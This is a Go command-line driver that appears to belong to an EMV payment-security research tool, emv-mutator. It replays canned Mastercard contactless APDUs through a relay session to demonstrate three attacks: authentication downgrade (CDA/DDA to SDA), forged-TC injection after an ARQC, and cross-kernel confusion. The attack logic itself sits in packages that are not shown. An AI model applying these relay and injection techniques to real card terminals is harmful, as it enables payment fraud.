package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"log/slog"
	"os"
	"strings"

	"github.com/gregLibert/emv-mutator/internal/config"
	"github.com/gregLibert/emv-mutator/pkg/attack"
	"github.com/gregLibert/emv-mutator/pkg/emv"
	"github.com/gregLibert/emv-mutator/pkg/iso7816"
	"github.com/gregLibert/emv-mutator/pkg/model"
	"github.com/gregLibert/emv-mutator/pkg/relay"
	"github.com/gregLibert/emv-mutator/pkg/tlv"
	"github.com/prometheus/client_golang/prometheus"
)

// Canned exchange of a Mastercard contactless card, replayed through the relay
// session instead of a live reader.
var (
	cmdSelectPPSE = tlv.Hex("00A40400 0E 325041592E5359532E4444463031 00")
	rspSelectPPSE = tlv.Hex(
		"6F 31",
		"84 0E 325041592E5359532E4444463031",
		"A5 1F", "BF0C 1C",
		"61 0C", "4F 07 A0000000041010", "87 01 01",
		"61 0C", "4F 07 A0000000031010", "87 01 02",
		"9000",
	)

	cmdSelectApp = tlv.Hex("00A40400 07 A0000000041010 00")
	rspSelectApp = tlv.Hex(
		"6F 17",
		"84 07 A0000000041010",
		"A5 0C", "50 0A 4D415354455243415244", // "MASTERCARD"
		"9000",
	)

	cmdGPO = tlv.Hex("80A80000 02 8300 00")
	rspGPO = tlv.Hex("5E00", "08010200", "4761739FFF01231201000F", "9000")

	cmdGenerateAC = tlv.Hex("80AE8000 02 0000 00")
	rspARQC       = tlv.Hex("80 0F", "80", "0123", "1122334455667788", "01020304", "9000")
)

type exchange struct {
	command  []byte
	response []byte
}

func main() {
	configPath := flag.String("config", "", "YAML configuration file (built-in defaults when empty)")
	attackName := flag.String("attack", "", "attack to demonstrate: auth_downgrade, state_confusion, cross_kernel or all (overrides config)")
	modelPath := flag.String("model", "", "write the protocol model as YAML to this file ('-' for stdout) and exit")
	flag.Parse()

	// --- 1. Configuration ---
	cfg := loadConfig(*configPath)
	logger := cfg.NewLogger(os.Stderr)
	slog.SetDefault(logger)

	profiles, err := cfg.Profiles()
	if err != nil {
		log.Fatalf("Invalid dialect profiles: %v", err)
	}

	if *modelPath != "" {
		if err := writeModel(*modelPath, model.Params{
			Profiles:     profiles,
			TriggerRound: cfg.CrossKernel.TriggerRound,
			Offset:       cfg.InjectionOffset(),
			Window:       cfg.InjectionWindow(),
		}); err != nil {
			log.Fatalf("Failed to write model: %v", err)
		}
		return
	}

	// --- 2. Registry Setup ---
	promRegistry := prometheus.NewRegistry()
	metrics, err := attack.NewMetrics(promRegistry)
	if err != nil {
		log.Fatalf("Failed to create metrics: %v", err)
	}

	registry, err := attack.NewDefaultRegistry(attack.Options{
		Logger:     logger,
		Metrics:    metrics,
		AFLEntries: cfg.GPO.AFLEntries,
		Scheduler: &attack.Scheduler{
			Offset: cfg.InjectionOffset(),
			Window: cfg.InjectionWindow(),
			Clock:  attack.SystemClock,
		},
		Dialect:      cfg.CrossKernel.Dialect,
		TriggerRound: cfg.CrossKernel.TriggerRound,
		Track2:       cfg.Track2(),
		Profiles:     profiles,
	})
	if err != nil {
		log.Fatalf("Failed to build registry: %v", err)
	}

	// --- 3. Execution Flow ---
	ctx := context.Background()
	for _, t := range selectedAttacks(cfg, *attackName) {
		session, err := relay.NewSession(registry, relay.Config{
			Attack:          t,
			PAN:             cfg.PANSurrogate,
			DeliveryLatency: cfg.DeliveryLatency(),
			Logger:          logger,
		})
		if err != nil {
			log.Fatalf("Failed to open session: %v", err)
		}

		switch t {
		case attack.TypeAuthDowngrade:
			step1AuthDowngrade(ctx, session)
		case attack.TypeStateConfusion:
			step2StateConfusion(ctx, session)
		case attack.TypeCrossKernel:
			step3CrossKernel(ctx, session)
		}

		printTrace(session.Trace())
	}

	printMetrics(promRegistry)
	fmt.Println("\n>> Demo Finished Successfully")
}

// =========================================================================
// Helper Functions
// =========================================================================

// loadConfig returns the defaults when no path is given.
func loadConfig(path string) *config.Config {
	if path == "" {
		return config.Default()
	}
	cfg, err := config.Load(path)
	if err != nil {
		log.Fatalf("Error loading configuration: %v", err)
	}
	return cfg
}

func selectedAttacks(cfg *config.Config, override string) []attack.Type {
	name := strings.TrimSpace(override)
	if name == "" {
		return []attack.Type{cfg.AttackType()}
	}
	if strings.EqualFold(name, "all") {
		return attack.Types()
	}
	t, err := attack.ParseType(name)
	if err != nil {
		log.Fatalf("Invalid -attack flag: %v", err)
	}
	return []attack.Type{t}
}

func writeModel(path string, params model.Params) error {
	doc := model.Build(params)
	if path == "-" {
		return model.Write(os.Stdout, doc)
	}

	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := model.Write(f, doc); err != nil {
		_ = f.Close()
		return err
	}
	fmt.Printf(">> Model written to %s\n", path)
	return f.Close()
}

// relayExchange pushes one command / response pair through the session and
// returns what the terminal receives.
func relayExchange(ctx context.Context, s *relay.Session, ex exchange) relay.Result {
	if _, err := s.Handle(ctx, relay.Frame{Direction: attack.TerminalToCard, Data: ex.command}); err != nil {
		fmt.Printf("   (!) Command not decoded: %v\n", err)
	}

	res, err := s.Handle(ctx, relay.Frame{Direction: attack.CardToTerminal, Data: ex.response})
	if err != nil {
		fmt.Printf("   (!) Response forwarded untouched: %v\n", err)
	}

	fmt.Printf("   Card     -> %X\n", ex.response)
	fmt.Printf("   Terminal <- %X [%s]\n", res.Forward, res.Outcome)
	return res
}

func selectApplication(ctx context.Context, s *relay.Session) {
	relayExchange(ctx, s, exchange{cmdSelectPPSE, rspSelectPPSE})
	relayExchange(ctx, s, exchange{cmdSelectApp, rspSelectApp})
	fmt.Printf(">> Card scheme detected from SELECT: %s\n", s.Transaction().Scheme)
}

// step1AuthDowngrade rewrites the AIP of the GPO response.
func step1AuthDowngrade(ctx context.Context, s *relay.Session) {
	printBanner("Step 1: AUTHENTICATION DOWNGRADE (CDA/DDA -> SDA)")
	selectApplication(ctx, s)

	res := relayExchange(ctx, s, exchange{cmdGPO, rspGPO})
	describeGPO("Original", rspGPO)
	describeGPO("Forwarded", res.Forward)
}

// step2StateConfusion answers the ARQC with a forged TC.
func step2StateConfusion(ctx context.Context, s *relay.Session) {
	printBanner("Step 2: STATE CONFUSION (FAKE TC INJECTION)")
	selectApplication(ctx, s)
	relayExchange(ctx, s, exchange{cmdGPO, rspGPO})

	res := relayExchange(ctx, s, exchange{cmdGenerateAC, rspARQC})
	if res.Outcome != relay.OutcomeInjected {
		fmt.Printf(">> No injection: %s\n", res.Outcome)
		return
	}

	resp, err := iso7816.ParseResponseAPDU(res.Forward)
	if err != nil {
		fmt.Printf("   (!) %v\n", err)
		return
	}
	tc, err := emv.ParseGenerateACResponse(resp.Data)
	if err != nil {
		fmt.Printf("   (!) %v\n", err)
		return
	}
	fmt.Printf(">> Injected %s: ATC %04X | AC %X (decoy) | IAD %X | %d bytes\n",
		tc.Type(), tc.ATC, tc.Cryptogram, tc.IAD, tc.Len())
}

// step3CrossKernel serves two GPO rounds in different kernel dialects.
func step3CrossKernel(ctx context.Context, s *relay.Session) {
	printBanner("Step 3: CROSS-KERNEL CONFUSION")
	selectApplication(ctx, s)

	for round := 1; round <= 2; round++ {
		fmt.Printf("\n[GPO round %d]\n", round)
		res := relayExchange(ctx, s, exchange{cmdGPO, rspGPO})
		describeGPO(fmt.Sprintf("Round %d", round), res.Forward)
	}
}

func describeGPO(label string, frame []byte) {
	resp, err := iso7816.ParseResponseAPDU(frame)
	if err != nil {
		fmt.Printf("   (!) %s: %v\n", label, err)
		return
	}
	gpo, err := emv.ParseGPOResponse(resp.Data)
	if err != nil {
		fmt.Printf("   (!) %s: %v\n", label, err)
		return
	}
	fmt.Printf("\n[%s]\n%s\n", label, gpo.Describe())
}

func printTrace(trace iso7816.Trace) {
	fmt.Printf("\n>> Session trace (%d exchanges, last successful: %t)\n", len(trace), trace.IsSuccess())
	for i, tx := range trace {
		fmt.Printf("   %2d. %s\n", i+1, tx.Command)
		if tx.Response != nil {
			fmt.Printf("       %s\n", tx.Response)
		}
	}
}

func printMetrics(g prometheus.Gatherer) {
	families, err := g.Gather()
	if err != nil {
		log.Printf("Warning: Failed to gather metrics: %v", err)
		return
	}

	fmt.Println("\n>> Metrics")
	for _, mf := range families {
		for _, m := range mf.GetMetric() {
			labels := make([]string, 0, len(m.GetLabel()))
			for _, l := range m.GetLabel() {
				labels = append(labels, l.GetName()+"="+l.GetValue())
			}
			fmt.Printf("   %s{%s} %v\n", mf.GetName(), strings.Join(labels, ","), m.GetCounter().GetValue())
		}
	}
}

func printBanner(title string) {
	fmt.Println("\n=============================================")
	fmt.Printf(" %s\n", title)
	fmt.Println("=============================================")
}
